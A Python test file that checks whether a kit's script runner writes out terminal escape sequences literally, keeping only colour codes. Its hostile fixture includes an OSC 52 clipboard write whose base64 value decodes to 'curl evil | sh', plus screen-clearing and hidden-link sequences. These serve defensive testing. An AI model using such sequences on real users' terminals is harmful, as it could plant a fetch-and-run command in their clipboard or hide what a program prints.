"""Escape sequences in a check's output are shown, not obeyed by the user's terminal (colours excepted).

A script's output is echoed as the check runs. Raw, an OSC sequence there
retitles the terminal, writes its clipboard (OSC 52) or hides a link, and a
CSI one clears the screen or moves the cursor over the kit's own lines; a
stranger's repro (triage) can print anything. Now every control character but
a colour code is written out (``\\x1b]52;...``). docs/faults.md, "Output".
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from kit.check_settings import script_check
from kit.install.environment import REUSED, Environment
from kit.run import script_runs

HOSTILE = r"""
print("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 clipboard")
print("\x1b[2J\x1b[H cleared \x1b]8;;https://example.invalid\x07link\x1b]8;;\x07")
print("\x1b[31mred\x1b[0m stays a colour; a bell \x07 and a backspace \x08 are shown")
"""


def test_a_scripts_escape_sequences_are_written_out_on_the_console(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    script = tmp_path / "hostile.py"
    script.write_text(HOSTILE)
    env = Environment(python=Path(sys.executable), versions={}, obtained=REUSED)
    fields = script_runs.run_script(env, script_check("hostile", script), "cpu", 60, lambda _line: None)
    assert fields.status == "ran"
    shown = capsys.readouterr().out.splitlines()
    assert shown == [
        r"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 clipboard",
        r"\x1b[2J\x1b[H cleared \x1b]8;;https://example.invalid\x07link\x1b]8;;\x07",
        "\x1b[31mred\x1b[0m stays a colour; a bell \\x07 and a backspace \\x08 are shown"]
